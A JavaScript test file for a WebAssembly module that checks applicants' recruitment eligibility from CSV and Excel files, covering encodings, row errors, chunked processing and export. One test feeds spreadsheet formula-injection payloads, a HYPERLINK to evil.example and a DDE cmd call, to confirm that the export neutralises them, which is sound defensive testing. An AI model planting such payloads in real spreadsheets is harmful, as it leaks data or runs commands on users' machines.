// Batch checks through the committed batch module, pkg/dengtong_batch.js, as
// the widget's Worker uses it: evaluateCsv / evaluateCsvChunk with the
// file's bytes (UTF-8 with and without BOM, GBK decoded by TextDecoder),
// quoting, per-row errors, the export (BOM, CRLF, formulas neutralised),
// coded errors, chunks, the downloadable templates, and parity with the
// native `dengtong batch` where the binary is built.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, existsSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { inflateRawSync } from 'node:zlib';
import * as batch from '../../pkg/dengtong_batch.js';
import { root } from './load.mjs';

batch.initSync({ module: readFileSync(`${root}pkg/dengtong_batch_bg.wasm`) });
const { evaluateCsv, evaluateCsvChunk, evaluate } = batch;

const FIX = `${root}tests/fixtures/batch/`;
const bytes = (name) => new Uint8Array(readFileSync(FIX + name));
const post = () => JSON.parse(readFileSync(`${FIX}post-pi-bachelor.json`, 'utf8'));
const AS_OF = '2024-05-01';
const HEADER = 'label,schoolType,classType,studyMode,graduationDate,certificates,awards,honours';
const enc = (s) => new TextEncoder().encode(s);
const BOM = [0xef, 0xbb, 0xbf];

function throws(fn, code, path) {
  let thrown;
  try {
    fn();
  } catch (e) {
    thrown = e;
  }
  assert.ok(thrown !== undefined, `expected ${code} at "${path}", got a result`);
  assert.ok(thrown instanceof Error, `not an Error: ${String(thrown)}`);
  assert.equal(thrown.code, code, thrown.message);
  assert.equal(thrown.path, path, thrown.message);
  return thrown;
}

/** A CSV export back into cells (quoted fields, CRLF). */
function cells(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

test('the Chinese fixture (UTF-8 with BOM): summary, rows as Excel numbers them, row errors naming row and column', () => {
  const r = evaluateCsv(bytes('applicants-zh.csv'), post(), { asOf: AS_OF });
  assert.equal(Object.getPrototypeOf(r), Object.prototype);
  assert.equal(r.encoding, 'utf-8');
  assert.equal(r.asOf, AS_OF);
  assert.equal(r.lang, 'zh-CN');
  assert.deepEqual(r.summary, { rows: 6, eligible: 2, ineligible: 2, undetermined: 0, unclear: 0, errors: 2, directOnly: 0 });
  // Row 6 is blank; 钱七's certificates cell holds a line break and stays row 7.
  assert.deepEqual(r.rows.map((x) => [x.row, x.label, x.outcome]), [
    [2, '张三', 'eligible'],
    [3, '李四', 'ineligible'],
    [4, '王五', 'ineligible'],
    [5, '赵六', null],
    [7, '钱七, 二班', 'eligible'],
    [8, '孙八', null],
  ]);
  assert.deepEqual(r.columns.map((c) => c.field), ['label', 'schoolType', 'classType', 'studyMode', 'graduationDate', 'certificates', 'awards', 'honours']);
  const zhao = r.rows[3].error;
  assert.deepEqual([zhao.row, zhao.column, zhao.field], [5, '班级', 'classType']);
  assert.match(zhao.message, /技工院校/);
  const sun = r.rows[5].error;
  assert.deepEqual([sun.row, sun.column, sun.field], [8, '毕业时间', 'graduationDate']);
  assert.match(sun.message, /2023\.13\.1/);
  assert.equal(r.rows[5].graduate, null);
  // 2023年7月: the last day of the month.
  assert.equal(r.rows[1].graduate.graduationDate, '2023-07-31');
  assert.equal(r.rows[2].graduate.graduationDate, null, '在校');
  assert.ok(r.rows[0].documents.some((d) => d.endsWith('号')));
  assert.ok(r.rows[0].reasons.length > 0);
  assert.equal(r.csv, undefined, 'no export unless asked');
});

test('quoted commas and line breaks stay in their cell', () => {
  const r = evaluateCsv(bytes('applicants-zh.csv'), post(), { asOf: AS_OF });
  const qian = r.rows[4];
  assert.equal(qian.label, '钱七, 二班');
  assert.deepEqual(qian.graduate.certificates.map((c) => c.level), ['senior', 'technician']);
  assert.deepEqual(qian.graduate.awards.map((a) => [a.competition, a.medal]), [
    ['nationalSkillsCompetition', 'excellence'],
    ['provincialClass1', 'gold'],
  ]);
  const text = `${HEADER}\r\n"Wu, Jr.",technicianCollege,preparatoryTechnician,fullTime,2023-07-01,"senior\r\ntechnician","nationalClass1 rank 8, team 1",\r\n"say ""hi""",university,,,2020-07-01,,,\r\n`;
  const s = evaluateCsv(text, post(), { asOf: AS_OF, lang: 'en' });
  assert.deepEqual(s.rows.map((x) => [x.row, x.label]), [[2, 'Wu, Jr.'], [3, 'say "hi"']]);
  assert.deepEqual(s.rows[0].graduate.certificates.map((c) => c.level), ['senior', 'technician']);
  assert.deepEqual(s.rows[0].graduate.awards, [{ competition: 'nationalClass1', rank: 8, medal: null, prize: null, teamSize: 1 }]);
});

test('with or without the byte-order mark, bytes or text: the same result', () => {
  const withBom = bytes('applicants-zh.csv');
  assert.deepEqual([...withBom.slice(0, 3)], BOM);
  const a = evaluateCsv(withBom, post(), { asOf: AS_OF });
  const b = evaluateCsv(withBom.slice(3), post(), { asOf: AS_OF });
  const c = evaluateCsv(new TextDecoder().decode(withBom.slice(3)), post(), { asOf: AS_OF });
  const d = evaluateCsv(withBom.buffer.slice(withBom.byteOffset, withBom.byteOffset + withBom.byteLength), post(), { asOf: AS_OF });
  assert.deepEqual(b, a);
  assert.deepEqual(c, a);
  assert.deepEqual(d, a);
});

test('GBK bytes (Excel/WPS "CSV" on Chinese Windows) are decoded by TextDecoder and read like the UTF-8 file', () => {
  const gbk = bytes('applicants-gbk.csv');
  assert.throws(() => new TextDecoder('utf-8', { fatal: true }).decode(gbk), 'the fixture is not UTF-8');
  const g = evaluateCsv(gbk, post(), { asOf: AS_OF, export: 'csv' });
  const u = evaluateCsv(bytes('applicants-zh.csv'), post(), { asOf: AS_OF, export: 'csv' });
  assert.equal(g.encoding, 'gbk');
  assert.deepEqual(g.rows, u.rows);
  assert.deepEqual(g.summary, u.summary);
  assert.equal(g.csv, u.csv);
  assert.equal(g.rows[0].label, '张三');
});

test('English headers in any order, with spaces and case; English messages', () => {
  const r = evaluateCsv(bytes('applicants-en.csv'), post(), { asOf: AS_OF, lang: 'en' });
  assert.equal(r.summary.rows, 4);
  assert.equal(r.rows[0].label, 'A-001');
  assert.equal(r.rows[0].outcome, 'eligible');
  const bad = evaluateCsv(`${HEADER}\nx,technicianCollege,,,45108,,,\n`, post(), { asOf: AS_OF, lang: 'en' });
  assert.deepEqual([bad.rows[0].error.row, bad.rows[0].error.column], [2, 'graduationDate']);
  assert.match(bad.rows[0].error.message, /Excel date serial/);
});

test('a bad row does not stop the batch; every other row is answered', () => {
  const lines = [HEADER];
  for (let i = 0; i < 20; i++) lines.push(`p${i},technicianCollege,${i % 5 === 0 ? 'nonsense' : 'senior'},,2023-07-01,,,`);
  const r = evaluateCsv(lines.join('\n'), post(), { asOf: AS_OF, lang: 'en' });
  assert.equal(r.summary.rows, 20);
  assert.equal(r.summary.errors, 4);
  for (const row of r.rows) {
    if (row.error) {
      assert.equal(row.error.column, 'classType');
      assert.equal(row.error.field, 'classType');
      assert.match(row.error.message, /nonsense/);
      assert.equal(row.outcome, null);
    } else assert.ok(['eligible', 'ineligible', 'undetermined', 'unclear'].includes(row.outcome));
  }
  assert.deepEqual(r.rows.filter((x) => x.error).map((x) => x.row), [2, 7, 12, 17]);
});

test('a row re-evaluated with evaluate() from its graduate gives the same outcome (the detail panel)', () => {
  const r = evaluateCsv(bytes('applicants-zh.csv'), post(), { asOf: AS_OF });
  for (const row of r.rows.filter((x) => x.graduate)) {
    const report = evaluate({ asOf: AS_OF, jurisdiction: r.jurisdiction, lang: r.lang, graduate: row.graduate, post: r.post });
    assert.equal(report.recruitment.outcome, row.outcome, row.label);
    assert.equal(report.recruitment.level ?? null, row.level, row.label);
    assert.ok(report.recruitment.reasons.every((x) => x.citations.every((c) => report.clauses[c.clauseId].quote.length > 0)));
  }
});

test('export: UTF-8 text with a byte-order mark, CRLF, headers in the language, formulas neutralised', () => {
  const zh = evaluateCsv(bytes('applicants-zh.csv'), post(), { asOf: AS_OF, export: 'csv' });
  assert.ok(zh.csv.startsWith('\uFEFF行号,姓名/编号,结果,'));
  assert.ok(zh.csv.endsWith('\r\n'));
  assert.ok(!/[^\r]\n/.test(zh.csv), 'every line ends CRLF (line breaks inside cells are quoted)');
  const t = cells(zh.csv.slice(1));
  assert.equal(t.length, 7);
  assert.deepEqual(t.slice(1).map((r) => r[0]), ['2', '3', '4', '5', '7', '8']);
  assert.equal(t[1][2], '符合');
  assert.deepEqual([t[4][13], t[6][13]], ['班级', '毕业时间']);

  const hostile = [
    HEADER,
    '=HYPERLINK("http://evil.example/?"&A1),technicianCollege,senior,,2023-07-01,,,',
    '+cmd|\' /C calc\'!A0,technicianCollege,senior,,2023-07-01,,,',
    '-2+3,technicianCollege,senior,,2023-07-01,,,',
    '@SUM(A1:A9),technicianCollege,senior,,2023-07-01,,,',
    '"\t=1+1",technicianCollege,senior,,2023-07-01,,,',
    '"=bad",technicianCollege,nonsense=1,,2023-07-01,,,',
  ].join('\r\n');
  const r = evaluateCsv(hostile, post(), { asOf: AS_OF, lang: 'en', export: 'csv' });
  // The result keeps the text as written; the spreadsheet gets a leading '.
  assert.equal(r.rows[0].label, '=HYPERLINK("http://evil.example/?"&A1)');
  const out = cells(r.csv.slice(1));
  assert.deepEqual(out.slice(1).map((x) => x[1]), [
    `'=HYPERLINK("http://evil.example/?"&A1)`,
    `'+cmd|' /C calc'!A0`,
    `'-2+3`,
    `'@SUM(A1:A9)`,
    `'=1+1`, // labels are trimmed, then neutralised
    `'=bad`,
  ]);
  for (const row of out) for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `cell starts like a formula: ${cell}`);
});

test('chunks: evaluateCsvChunk over consecutive ranges adds up to evaluateCsv, export included', () => {
  const lines = [HEADER, ''];
  const schools = ['technicianCollege', 'technicalSchool', 'seniorTechnicalSchool', 'university'];
  for (let i = 0; i < 53; i++) {
    const school = schools[i % 4];
    const cls = school === 'university' ? '' : ['senior', 'preparatoryTechnician', 'intermediate', ''][i % 4];
    lines.push(`"p${i},\nx",${school},${cls},,${i % 7 === 0 ? '2023-02-30' : '2023-07-01'},senior,,`);
    if (i % 10 === 0) lines.push(',,,,,,,');
  }
  const text = enc(lines.join('\r\n'));
  const opts = { asOf: AS_OF, export: 'csv' };
  const whole = evaluateCsv(text, post(), opts);
  for (const size of [1, 7, 20, 53, 100]) {
    const rows = [];
    let csv = '';
    const sum = Object.fromEntries(Object.keys(whole.summary).map((k) => [k, 0]));
    for (let start = 0; ; start += size) {
      const c = evaluateCsvChunk(text, post(), opts, start, size);
      assert.equal(c.start, start);
      assert.equal(c.totalRows, 53);
      assert.deepEqual(c.columns, whole.columns);
      rows.push(...c.rows);
      csv += c.csv;
      for (const k of Object.keys(sum)) sum[k] += c.summary[k];
      assert.equal(c.summary.rows, c.rows.length);
      if (start + size >= 53) break;
    }
    assert.deepEqual(rows, whole.rows, `chunks of ${size}`);
    assert.deepEqual(sum, whole.summary);
    assert.equal(csv, whole.csv);
  }
  const past = evaluateCsvChunk(text, post(), opts, 60, 10);
  assert.deepEqual([past.rows.length, past.totalRows, past.csv], [0, 53, '']);
  // The row limit is checked over the whole file, whatever the range.
  throws(() => evaluateCsvChunk(text, post(), { ...opts, limits: { maxRows: 52 } }, 0, 1), 'invalid_csv', '');
});

test('file-level problems throw invalid_csv with a message in the chosen language', () => {
  const p = post();
  let seed = 7;
  const junk = new Uint8Array(4096).map(() => (seed = (seed * 1103515245 + 12345) >>> 0) >>> 24);
  assert.match(throws(() => evaluateCsv(junk, p, { lang: 'en' }), 'invalid_csv', '').message, /neither UTF-8 nor GBK|NUL/);
  assert.match(throws(() => evaluateCsv(junk, p), 'invalid_csv', '').message, /不是 GBK|空字节/);
  const utf16 = new Uint8Array([0xff, 0xfe, ...[...'姓名,院校类型'].flatMap((c) => [c.charCodeAt(0) & 255, c.charCodeAt(0) >> 8])]);
  assert.match(throws(() => evaluateCsv(utf16, p), 'invalid_csv', '').message, /UTF-16/);
  assert.match(throws(() => evaluateCsv('', p, { lang: 'en' }), 'invalid_csv', '').message, /empty/);
  assert.match(throws(() => evaluateCsv('a\0b', p, { lang: 'en' }), 'invalid_csv', '').message, /NUL/);
  const unknown = bytes('unknown-column.csv');
  assert.match(throws(() => evaluateCsv(unknown, p), 'invalid_csv', 'header').message, /证书名称/);
  const ok = evaluateCsv(unknown, p, { asOf: AS_OF, ignoreUnknownColumns: true });
  assert.equal(ok.summary.rows, 1);
  assert.match(ok.warnings.join(' '), /证书名称/);
  assert.deepEqual(ok.columns.filter((c) => c.status === 'notUsed').map((c) => c.header), ['电话', '备注']);
  assert.match(throws(() => evaluateCsv('label,schoolType\nx,university\n', p, { lang: 'en' }), 'invalid_csv', 'header').message, /graduationDate/);
  const wide = Array.from({ length: 1000 }, (_, i) => `c${i}`).join(',');
  assert.match(throws(() => evaluateCsv(`${wide}\n`, p, { lang: 'en' }), 'invalid_csv', 'header').message, /too many columns/);
  const rows = [HEADER, ...Array.from({ length: 11 }, (_, i) => `p${i},university,,,2020-07-01,,,`)].join('\n');
  assert.match(throws(() => evaluateCsv(rows, p, { lang: 'en', limits: { maxRows: 10 } }), 'invalid_csv', '').message, /too many rows/);
  assert.match(throws(() => evaluateCsv(rows, p, { lang: 'en', limits: { maxBytes: 100 } }), 'invalid_csv', '').message, /too large/);
});

test('a 50 MB single line is refused quickly, not hung on', () => {
  const line = new Uint8Array(50 * 1024 * 1024).fill(0x61);
  const t0 = performance.now();
  const e = throws(() => evaluateCsv(line, post(), { lang: 'en' }), 'invalid_csv', 'header');
  assert.match(e.message, /longer than 1000 characters/);
  assert.ok(performance.now() - t0 < 20_000);
});

test('bad arguments are invalid_request with a path; the module survives them', () => {
  const text = bytes('applicants-zh.csv');
  throws(() => evaluateCsv(text, { employer: 'school', postType: 'professional' }), 'invalid_request', 'post.employer');
  // No post and no 岗位表: the file says which post each row is for, or it cannot be checked.
  throws(() => evaluateCsv(text, undefined), 'invalid_csv', 'posts');
  throws(() => evaluateCsv(text, [post()]), 'invalid_request', 'post');
  throws(() => evaluateCsv(text, post(), { lang: 'fr' }), 'invalid_request', 'options.lang');
  throws(() => evaluateCsv(text, post(), { asOf: '2023-02-30' }), 'invalid_date', 'options.asOf');
  throws(() => evaluateCsv(text, post(), { export: 'pdf' }), 'invalid_request', 'options.export');
  throws(() => evaluateCsv(text, post(), { colour: 'red' }), 'invalid_request', 'options.colour');
  throws(() => evaluateCsv(text, post(), { limits: { maxRows: 0 } }), 'invalid_request', 'options.limits.maxRows');
  throws(() => evaluateCsv(text, post(), 'zh-CN'), 'invalid_request', 'options');
  for (const v of [undefined, null, 5, {}, [], true]) throws(() => evaluateCsv(v, post()), 'invalid_request', 'csv');
  const cyclic = post();
  cyclic.self = cyclic;
  throws(() => evaluateCsv(text, cyclic), 'invalid_json', 'post');
  // Absent options: today, CN, zh-CN.
  const r = evaluateCsv(text, post());
  assert.match(r.asOf, /^\d{4}-\d{2}-\d{2}$/);
  assert.equal(r.jurisdiction, 'CN');
  assert.equal(evaluateCsv(text, post(), { asOf: AS_OF, export: null }).csv, undefined);
});

test('the downloadable templates read without errors, in both languages', () => {
  for (const [file, lang, first] of [
    ['applicants-template.zh-CN.csv', 'zh-CN', '姓名'],
    ['applicants-template.en.csv', 'en', 'label'],
  ]) {
    const b = new Uint8Array(readFileSync(`${root}www/templates/${file}`));
    if (lang === 'zh-CN') assert.deepEqual([...b.slice(0, 3)], BOM, `${file} has a byte-order mark, for Excel`);
    const r = evaluateCsv(b, post(), { asOf: AS_OF, lang });
    assert.equal(r.columns[0].header, first);
    assert.equal(r.warnings.length, 0, `${file}: ${r.warnings}`);
    assert.ok(r.summary.rows >= 4, file);
    assert.equal(r.summary.errors, 0, `${file}: ${JSON.stringify(r.rows.map((x) => x.error).filter(Boolean))}`);
    assert.deepEqual(r.columns.map((c) => c.field), ['label', 'schoolType', 'classType', 'studyMode', 'graduationDate', 'certificates', 'awards', 'honours']);
    const outcomes = new Set(r.rows.map((x) => x.outcome));
    assert.ok(outcomes.has('eligible') && outcomes.has('ineligible') && outcomes.has('undetermined'), `${file}: ${[...outcomes]}`);
  }
});

// The same answers as the native command (encoding_rs's GBK vs the
// platform's TextDecoder, the options and the export), where it is built
// (scripts/test.sh builds it with `cargo test` first).
const bin = [`${root}target/release/dengtong`, `${root}target/debug/dengtong`].find((f) => existsSync(f));
test('parity with `dengtong batch` (JSON and CSV)', { skip: !bin && 'no native binary (cargo build)' }, () => {
  for (const [file, lang] of [['applicants-zh.csv', 'zh-CN'], ['applicants-gbk.csv', 'zh-CN'], ['applicants-en.csv', 'en']]) {
    const args = ['batch', FIX + file, '--post', `${FIX}post-pi-bachelor.json`, '--as-of', AS_OF, '--lang', lang];
    const json = JSON.parse(execFileSync(bin, [...args, '--format', 'json'], { encoding: 'utf8' }));
    const csv = execFileSync(bin, [...args, '--format', 'csv'], { encoding: 'utf8' });
    const r = evaluateCsv(bytes(file), post(), { asOf: AS_OF, lang, export: 'csv' });
    const { encoding, csv: sheet, ...rest } = r;
    assert.deepEqual(rest, json, file);
    assert.equal(sheet, csv, file);
    assert.equal(encoding, file.includes('gbk') ? 'gbk' : 'utf-8');
  }
});

test('the batch typings are real types, naming every field the results carry', () => {
  const dts = readFileSync(`${root}pkg/dengtong_batch.d.ts`, 'utf8');
  assert.match(dts, /export function evaluateCsv\(csv: BatchFile, post: Post \| null \| undefined, options: BatchOptions \| undefined\): BatchResult;/);
  assert.match(dts, /export function evaluateCsvChunk\(csv: BatchFile, post: Post \| null \| undefined, options: BatchOptions \| undefined, start: number, maxRows: number\): BatchChunk;/);
  assert.match(dts, /export class BatchSession \{/);
  assert.match(dts, /next\(maxRows: number\): BatchChunk;/);
  assert.match(dts, /export function evaluate\(request: Request\): Report;/);
  assert.match(dts, /"invalid_csv"/);
  const types = dts.slice(dts.indexOf('export interface BatchLimits'), dts.indexOf('export function'));
  assert.ok(types.length > 1000);
  assert.doesNotMatch(types, /\bany\b/);
  const block = (name) => {
    const m = dts.match(new RegExp(`export interface ${name}(?: extends \\w+)? \\{([\\s\\S]*?)\\n\\}`));
    assert.ok(m, `interface ${name}`);
    return m[1];
  };
  const declares = (name, key) => new RegExp(`^\\s*${key}\\??:`, 'm').test(block(name));
  const r = evaluateCsvChunk(bytes('applicants-zh.csv'), post(), { asOf: AS_OF, export: 'csv' }, 0, 10);
  for (const k of Object.keys(r)) assert.ok(declares('BatchResult', k) || declares('BatchChunk', k), `BatchResult.${k}`);
  for (const row of r.rows) for (const k of Object.keys(row)) assert.ok(declares('BatchRow', k), `BatchRow.${k}`);
  for (const k of Object.keys(r.rows[3].error)) assert.ok(declares('BatchRowError', k), `BatchRowError.${k}`);
  for (const k of Object.keys(r.summary)) assert.ok(declares('BatchSummary', k), `BatchSummary.${k}`);
  for (const k of Object.keys(r.columns[0])) assert.ok(declares('BatchColumn', k), `BatchColumn.${k}`);
  // The single-check module does not carry the batch functions.
  const single = readFileSync(`${root}pkg/dengtong.d.ts`, 'utf8');
  assert.doesNotMatch(single, /evaluateCsv/);
});

// ---------------------------------------------------------------------------
// Recruiters' workbooks (tests/fixtures/batch/recruitment.xlsx, built by
// tests/batch_workbook.rs): a 报名表 as exported and its 岗位表.

const WB = { asOf: '2025-06-01', jurisdiction: 'CN-YN' };
const workbook = () => bytes('recruitment.xlsx');

/** The files of a zip (an .xlsx), inflated: enough to open an export again. */
function unzip(buf) {
  const b = Buffer.from(buf);
  const end = b.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = b.readUInt16LE(end + 10);
  let at = b.readUInt32LE(end + 16);
  const files = {};
  for (let i = 0; i < count; i++) {
    const method = b.readUInt16LE(at + 10);
    const size = b.readUInt32LE(at + 20);
    const nameLen = b.readUInt16LE(at + 28);
    const extra = b.readUInt16LE(at + 30) + b.readUInt16LE(at + 32);
    const name = b.toString('utf8', at + 46, at + 46 + nameLen);
    const local = b.readUInt32LE(at + 42);
    const data = local + 30 + b.readUInt16LE(local + 26) + b.readUInt16LE(local + 28);
    const raw = b.subarray(data, data + size);
    files[name] = (method === 8 ? inflateRawSync(raw) : raw).toString('utf8');
    at += 46 + nameLen + extra;
  }
  return files;
}

test('a workbook with its 岗位表 reads with no option: each applicant against its own post', () => {
  const r = evaluateCsv(workbook(), null, WB);
  assert.equal(r.source.format, 'xlsx');
  assert.deepEqual([r.source.sheet, r.source.postsFrom, r.source.postsSheet], ['报名表', 'sheet', '岗位表']);
  assert.equal(r.post, null);
  assert.deepEqual(r.rows.map((x) => [x.label, x.row, x.post, x.outcome, x.directOnly]), [
    ['张三', 3, 'A01', 'eligible', false],
    ['李四', 4, 'A01', 'ineligible', false],
    ['王五', 5, 'A02', 'eligible', false],
    ['赵六', 6, 'A02', null, false],
    ['钱七', 7, 'B01', 'eligible', false],
    ['孙八', 8, 'A99', null, false],
    ['周九', 9, 'A01', 'ineligible', true],
    ['吴十', 10, 'B01', null, false],
    ['郑一', 11, '2025003', 'eligible', false],
  ]);
  const by = (l) => r.rows.find((x) => x.label === l);
  assert.deepEqual([by('赵六').error.column, by('赵六').error.field], ['毕业院校', 'schoolName']);
  assert.deepEqual([by('孙八').error.column, by('孙八').error.field], ['报考岗位代码', 'postCode']);
  assert.deepEqual([by('吴十').error.column, by('吴十').error.field], ['毕业时间', 'graduationDate']);
  assert.equal(by('王五').education, 'associate');
  assert.ok(by('周九').directRoutes.includes('publicInstitution'));
  assert.ok(by('张三').notes.some((n) => n.includes('云南技师学院')));
  assert.deepEqual(r.columns.filter((c) => c.status === 'notUsed').map((c) => c.header),
    ['序号', '性别', '民族', '身份证号', '出生年月', '政治面貌', '所学专业', '联系电话']);
  assert.deepEqual(r.posts.map((p) => [p.code, p.summary.rows, p.summary.eligible, p.summary.directOnly]),
    [['A01', 3, 1, 1], ['A02', 2, 1, 0], ['B01', 2, 1, 0], ['2025003', 1, 1, 0]]);
  assert.deepEqual(r.summary, { rows: 9, eligible: 4, ineligible: 2, undetermined: 0, unclear: 0, errors: 3, directOnly: 1 });
  assert.ok(r.notes.some((n) => n.includes('事业单位')), 'the employer default is said');
});

test('BatchSession: chunks start where the last ended and add up to evaluateCsv; the .xlsx export opens again', () => {
  const whole = evaluateCsv(workbook(), null, WB);
  for (const size of [1, 2, 4, 100]) {
    const s = new batch.BatchSession(workbook(), null, { ...WB, export: 'xlsx' });
    const rows = [];
    let starts = [];
    for (;;) {
      const c = s.next(size);
      assert.equal(c.totalRows, 9);
      starts.push(c.start);
      rows.push(...c.rows);
      if (c.done) break;
    }
    assert.deepEqual(starts, Array.from({ length: starts.length }, (_, i) => i * size));
    assert.deepEqual(rows, whole.rows, `chunks of ${size}`);
    assert.deepEqual(s.summary(), { summary: whole.summary, posts: whole.posts });
    const files = unzip(s.xlsx());
    assert.match(files['xl/workbook.xml'], /<sheet name="结果"[^>]*\/><sheet name="汇总"/);
    const strings = files['xl/sharedStrings.xml'];
    for (const t of ['周九', '可直接考察', '事业单位直接考察', '市职业技能鉴定中心', '其中仅可直接考察', '合计']) assert.ok(strings.includes(t), t);
    throws(() => s.xlsx(), 'invalid_request', 'options.export');
    s.free();
  }
  // evaluateCsv gives the same workbook.
  const x = evaluateCsv(workbook(), null, { ...WB, export: 'xlsx' }).xlsx;
  assert.ok(x instanceof Uint8Array);
  assert.deepEqual([...x.slice(0, 2)], [0x50, 0x4b]);
});

test('posts from a separate file (options.posts), and one post for every row', () => {
  const applicants = '姓名,毕业院校,学历,毕业时间,报考岗位代码\r\n张三,云南技师学院,高级工班,2023-07-01,P1\r\n李四,云南技师学院,高级工班,2023-07-01,P2\r\n';
  const posts = enc('岗位代码,岗位类别,学历要求\r\nP1,专业技术,大专及以上\r\nP2,管理,本科及以上\r\n');
  const r = evaluateCsv(applicants, null, { ...WB, posts, export: 'csv' });
  assert.equal(r.source.postsFrom, 'file');
  assert.deepEqual(r.rows.map((x) => [x.post, x.outcome]), [['P1', 'eligible'], ['P2', 'ineligible']]);
  assert.ok(r.csv.startsWith('\uFEFF行号,姓名/编号,报考岗位代码,招聘单位,岗位名称,结果,'));
  // The workbook's 岗位表 as a posts file, for its own 报名表.
  const w = evaluateCsv(workbook(), null, { ...WB, posts: workbook() });
  assert.deepEqual(w.rows.map((x) => x.outcome), evaluateCsv(workbook(), null, WB).rows.map((x) => x.outcome));
  // One post for all: the 岗位表 is not used, and said so.
  const one = evaluateCsv(workbook(), post(), WB);
  assert.equal(one.source.postsFrom, 'post');
  assert.ok(one.rows.every((x) => x.post === null));
  assert.ok(one.notes.some((n) => n.includes('岗位表')));
  throws(() => evaluateCsv(workbook(), null, { ...WB, sheet: 'Sheet9' }), 'invalid_csv', 'sheet');
  throws(() => evaluateCsv(applicants, null, { ...WB, posts: enc('岗位代码,岗位类别\r\nP1,管理\r\nP1,管理\r\n') }), 'invalid_csv', 'posts');
  throws(() => evaluateCsv(applicants, null, { ...WB, posts: 5 }), 'invalid_request', 'options.posts');
});

test('evaluateCsvChunk goes on where the last chunk ended, and starts again for another file', () => {
  const lines = [HEADER];
  for (let i = 0; i < 30; i++) lines.push(`p${i},technicianCollege,senior,,2023-07-01,,,`);
  const a = enc(lines.join('\n'));
  const b = enc(lines.slice(0, 11).join('\n'));
  const opts = { asOf: AS_OF, lang: 'en' };
  const first = evaluateCsvChunk(a, post(), opts, 0, 10);
  const other = evaluateCsvChunk(b, post(), opts, 0, 5);
  const next = evaluateCsvChunk(a, post(), opts, 10, 10);
  assert.deepEqual([first.rows[0].label, other.totalRows, next.rows[0].label, next.start], ['p0', 10, 'p10', 10]);
  assert.deepEqual(evaluateCsvChunk(a, post(), opts, 5, 2).rows.map((x) => x.label), ['p5', 'p6']);
  throws(() => evaluateCsvChunk(a, post(), { ...opts, export: 'xlsx' }, 0, 1), 'invalid_request', 'options.export');
});

test('parity with `dengtong batch` for the workbook (JSON)', { skip: !bin && 'no native binary (cargo build)' }, () => {
  const json = JSON.parse(execFileSync(bin, ['batch', `${FIX}recruitment.xlsx`, '--as-of', WB.asOf, '--jurisdiction', WB.jurisdiction, '--format', 'json'], { encoding: 'utf8' }));
  const { encoding, ...rest } = evaluateCsv(workbook(), null, WB);
  assert.equal(encoding, 'utf-8');
  assert.deepEqual(rest, json);
});

test('the workbook template reads without errors', () => {
  const r = evaluateCsv(new Uint8Array(readFileSync(`${root}www/templates/recruitment-template.zh-CN.xlsx`)), null, WB);
  assert.equal(r.summary.errors, 0, JSON.stringify(r.rows.map((x) => x.error).filter(Boolean)));
  assert.equal(r.summary.rows, 5);
  assert.equal(r.warnings.length, 0, r.warnings.join(' '));
});
